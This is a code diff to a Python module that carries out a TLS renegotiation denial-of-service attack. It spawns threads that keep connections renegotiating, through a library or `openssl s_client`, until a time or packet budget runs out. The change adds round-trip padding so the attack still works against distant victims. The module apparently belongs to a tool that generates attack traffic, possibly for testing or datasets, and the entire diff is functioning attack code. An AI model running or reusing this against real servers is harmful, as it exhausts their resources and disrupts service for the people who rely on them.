@@ -26,14 +26,20 @@ _TOOL_SETTLES_S = 0.25
 """s_client gives up when an answer arrives while it renegotiates."""
 
 
-def ssl_renegotiation(attack: Attack, report: AttackReport) -> None:
-    """Keeps some connections renegotiating until the attack's time is over."""
+def ssl_renegotiation(attack: Attack, report: AttackReport, far_s: float = 0.0) -> None:
+    """Keeps some connections renegotiating until the attack's time is over.
+
+    Args:
+        attack: to be made.
+        report: of it.
+        far_s: the longest round trip to the victim, for which s_client has to be waited for.
+    """
     rng = random.Random(attack.seed)
     end = time.monotonic() + attack.seconds
     threads = [
         threading.Thread(
             target=_keep_going,
-            args=(attack, report, random.Random(rng.getrandbits(32)), end),
+            args=(attack, report, random.Random(rng.getrandbits(32)), end, far_s),
             daemon=True,
         )
         for _ in range(int(attack.settings["connections"]))
@@ -44,14 +50,19 @@ def ssl_renegotiation(attack: Attack, report: AttackReport) -> None:
         thread.join()
 
 
-def _keep_going(attack: Attack, report: AttackReport, rng: random.Random, end: float) -> None:
+def _keep_going(
+    attack: Attack, report: AttackReport, rng: random.Random, end: float, far_s: float
+) -> None:
     """One connection after the other; a server that closes one is called again."""
     lasts_s = max(_SHORTEST_S, attack.seconds / (int(attack.settings["reconnects"]) + 1))
-    perform = _with_tool if attack.settings["tool"] == "s_client" else _with_library
     too_short_s = min(_SHORTEST_S, attack.seconds) / 2
     while report.packets < attack.packets and (left := end - time.monotonic()) > too_short_s:
         with contextlib.suppress(OSError):
-            perform(attack, report, rng, time.monotonic() + min(left, lasts_s))
+            until = time.monotonic() + min(left, lasts_s)
+            if attack.settings["tool"] == "s_client":
+                _with_tool(attack, report, rng, until, far_s)
+            else:
+                _with_library(attack, report, rng, until)
         time.sleep(0.02)
 
 
@@ -94,7 +105,9 @@ def _with_library(attack: Attack, report: AttackReport, rng: random.Random, unti
             raise
 
 
-def _with_tool(attack: Attack, report: AttackReport, rng: random.Random, until: float) -> None:
+def _with_tool(
+    attack: Attack, report: AttackReport, rng: random.Random, until: float, far_s: float
+) -> None:
     """A line R makes `openssl s_client` renegotiate, every other line is sent.
 
     It reads a line whenever it has nothing else to do, so what it says is counted, not the lines.
@@ -116,20 +129,21 @@ def _with_tool(attack: Attack, report: AttackReport, rng: random.Random, until: 
         listener = threading.Thread(target=_count, args=(tool, report, entry), daemon=True)
         listener.start()
         try:
-            time.sleep(_TOOL_CONNECTS_S)
+            # TCP and a full handshake of TLS 1.2 take three round trips, a renegotiation two.
+            time.sleep(_TOOL_CONNECTS_S + 3 * far_s)
             for _ in range(1 + int(attack.settings["onset"]) // 3):  # request, answer, and its ACK
                 tool.stdin.write(_REQUEST)
                 time.sleep(rng.uniform(0.01, 0.03))
-            time.sleep(_TOOL_SETTLES_S)
+            time.sleep(_TOOL_SETTLES_S + far_s)
             lines = 0
             while time.monotonic() < until and report.packets < attack.packets:
                 tool.stdin.write(b"R\n")
                 lines += 1
                 time.sleep(_interval_s(attack, rng))
                 if lines % _quiet_for(attack) == 0:
-                    time.sleep(_TOOL_SETTLES_S)
+                    time.sleep(_TOOL_SETTLES_S + 2 * far_s)
                     tool.stdin.write(_REQUEST)
-                    time.sleep(_TOOL_SETTLES_S)
+                    time.sleep(_TOOL_SETTLES_S + far_s)
         except OSError as error:
             entry.error = str(error)
         finally:
